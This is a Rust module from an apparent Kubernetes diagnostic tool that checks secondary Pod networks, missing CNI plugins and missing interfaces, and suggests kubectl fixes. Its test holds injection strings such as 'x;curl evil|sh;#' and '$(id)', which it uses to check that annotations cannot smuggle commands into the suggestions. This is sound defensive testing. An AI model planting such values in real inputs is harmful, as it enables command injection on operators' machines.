//! Second networks of Pods, without the host network.

use std::collections::BTreeSet;

use k8s_openapi::api::core::v1::{ObjectReference, Pod};
use kube::ResourceExt as _;
use serde_json::Value;

use super::super::facts::Facts;
use super::super::finding::{Checked, Finding, Fix, Rule};
use super::{is_active, phase, pods};

const NETWORKS: &str = "k8s.v1.cni.cncf.io/networks";
const NETWORK_STATUS: &str = "k8s.v1.cni.cncf.io/network-status";

pub(super) const RULES: &[Rule] = &[
    Rule {
        code: "NetworkAttachmentAbsent",
        condition: "A Pod of a job names a NetworkAttachmentDefinition that does not exist.",
        effect: "The Pod stays in `ContainerCreating`, and its job holds IPUs.",
        remedy: "Create the NetworkAttachmentDefinition, or correct the annotation of the job's template.",
        check: attachment_absent,
    },
    Rule {
        code: "CniPluginMissing",
        condition: "A node lacks the CNI plugin of a network.",
        effect: "Pods of jobs stay in `ContainerCreating` there.",
        remedy: "Install the plugin in `/opt/cni/bin` of the node.",
        check: plugin_missing,
    },
    Rule {
        code: "SecondInterfaceMissing",
        condition: "A running Pod of a job names further networks, and has fewer interfaces than these.",
        effect: "The Pod does not reach the IPUs, or MPI uses the network of the cluster.",
        remedy: "Check that the meta plugin, such as Multus, is the first CNI configuration of the node, and delete \
                 the Pod.",
        check: interface_missing,
    },
];

/// Returns the networks that the annotation of a Pod names, as `namespace/name`. Other text than names is
/// left out, because commands contain the networks.
fn networks(pod: &Pod) -> Vec<String> {
    let text = pod
        .annotations()
        .get(NETWORKS)
        .map(|text| text.trim())
        .unwrap_or_default();
    let own = pod.namespace().unwrap_or_default();
    if text.starts_with('[') {
        let list: Vec<Value> = serde_json::from_str(text).unwrap_or_default();
        let name = |network: &Value| {
            let namespace = network["namespace"].as_str().unwrap_or(&own);
            Some(format!("{namespace}/{}", network["name"].as_str()?))
        };
        return list
            .iter()
            .filter_map(name)
            .filter(|name| is_name(name))
            .collect();
    }
    let names = text.split(',').map(str::trim).filter(|name| !name.is_empty());
    names
        .map(|name| name.split('@').next().unwrap_or(name))
        .map(|name| {
            if name.contains('/') {
                name.to_owned()
            } else {
                format!("{own}/{name}")
            }
        })
        .filter(|name| is_name(name))
        .collect()
}

/// Returns whether a text has the characters of names of Kubernetes objects only.
fn is_name(text: &str) -> bool {
    let allowed = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '-' | '.' | '/');
    text.chars().all(allowed)
}

fn attachment_absent(facts: &Facts) -> Checked {
    let attachments = facts.attachments.get()?;
    let mut absent = BTreeSet::new();
    for pod in pods(facts)?.filter(is_active) {
        for network in networks(pod) {
            if attachments.as_ref().is_none_or(|all| !all.contains(&network)) {
                absent.insert(network);
            }
        }
    }
    let finding = |network: String| {
        let (actual, fix) = if attachments.is_some() {
            (
                "absent",
                Fix::template("kubectl apply -f NETWORK.yaml")
                    .with_note(format!("NETWORK.yaml: the definition of {network}.")),
            )
        } else {
            (
                "the cluster has no NetworkAttachmentDefinitions",
                Fix::inspect("kubectl get crd network-attachment-definitions.k8s.cni.cncf.io")
                    .with_note("Install a meta plugin, such as Multus."),
            )
        };
        Finding::new(
            format!("NetworkAttachmentDefinition {network}"),
            actual,
            "exists, because Pods of jobs name it",
            fix,
        )
    };
    Ok(absent.into_iter().map(finding).collect())
}

/// Returns whether the message of an Event names a program that is missing. Plugins miss other files, too.
fn is_plugin_error(message: &str) -> bool {
    let has = |part| message.contains(part);
    has("failed to find plugin")
        || has("executable file not found")
        || has("exec /") && has("no such file or directory")
}

fn plugin_missing(facts: &Facts) -> Checked {
    let pods: Vec<_> = pods(facts)?.collect();
    // Events last an hour: the Pod may run by now, or be another one.
    let waits = |object: &ObjectReference| {
        pods.iter().any(|pod| {
            let is_same =
                pod.metadata.uid.is_none() || object.uid.is_none() || pod.metadata.uid == object.uid;
            pod.metadata.namespace == object.namespace
                && pod.metadata.name == object.name
                && is_same
                && phase(pod) == Some("Pending")
        })
    };
    let mut nodes = BTreeSet::new();
    let mut findings = Vec::new();
    for event in facts.events.get()? {
        let message = event.message.as_deref().unwrap_or_default();
        let is_of_job = waits(&event.involved_object);
        let is_plugin = event.reason.as_deref() == Some("FailedCreatePodSandBox") && is_plugin_error(message);
        let node = event
            .source
            .as_ref()
            .and_then(|source| source.host.clone())
            .filter(|host| is_name(host))
            .unwrap_or_default();
        if is_of_job && is_plugin && nodes.insert(node.clone()) {
            findings.push(Finding::new(
                format!("node {node}"),
                message,
                "the CNI plugin in /opt/cni/bin",
                Fix::inspect(format!(
                    "kubectl debug node/{node} -it --image=busybox -- ls /host/opt/cni/bin"
                )),
            ));
        }
    }
    Ok(findings)
}

fn interface_missing(facts: &Facts) -> Checked {
    let mut findings = Vec::new();
    let mut without_status = None;
    for pod in pods(facts)? {
        let is_running = phase(pod) == Some("Running");
        let expected = networks(pod).len();
        if !is_running || expected == 0 {
            continue;
        }
        let name = format!("{}/{}", pod.namespace().unwrap_or_default(), pod.name_any());
        let Some(status) = pod.annotations().get(NETWORK_STATUS) else {
            without_status.get_or_insert(name);
            continue;
        };
        let interfaces: Vec<Value> = serde_json::from_str(status).unwrap_or_default();
        // The name follows from the annotation: `net1`, or the part after `@`.
        let is_own = |interface: &&Value| interface["default"] != true && interface["interface"] != "eth0";
        if interfaces.iter().filter(is_own).count() >= expected {
            continue;
        }
        let names: Vec<_> = interfaces
            .iter()
            .filter_map(|interface| interface["interface"].as_str())
            .collect();
        findings.push(Finding::new(
            format!("Pod {name}"),
            format!("has the interfaces {}", names.join(", ")),
            "an interface for each of its networks",
            Fix::inspect(format!(
                "kubectl -n {} describe pod {}",
                pod.namespace().unwrap_or_default(),
                pod.name_any()
            ))
            .with_note("Its job runs: the deletion of the Pod interrupts it."),
        ));
    }
    match without_status {
        Some(pod) if findings.is_empty() => Err(format!(
            "Pod {pod} has no annotation {NETWORK_STATUS}; use `kubectl ipu exec` with `ip link` to see its interfaces"
        )),
        _ => Ok(findings),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn named(networks: &str) -> Vec<String> {
        let pod =
            json!({"metadata": {"name": "w", "namespace": "team", "annotations": {NETWORKS: networks}}});
        super::networks(&serde_json::from_value(pod).expect("a Pod"))
    }

    #[test]
    fn networks_are_names_with_a_namespace() {
        assert_eq!(named("rdma-net@ib0, ipu/other"), ["team/rdma-net", "ipu/other"]);
        assert_eq!(named(r#"[{"name": "a", "interface": "net1"}]"#), ["team/a"]);
    }

    #[test]
    fn an_annotation_adds_no_command_to_the_commands_of_doctor() {
        for text in ["x;curl evil|sh;#", "a b", "$(id)", "a\nb", r#"[{"name": "x;y"}]"#] {
            assert_eq!(named(text), Vec::<String>::new(), "{text}");
        }
    }
}
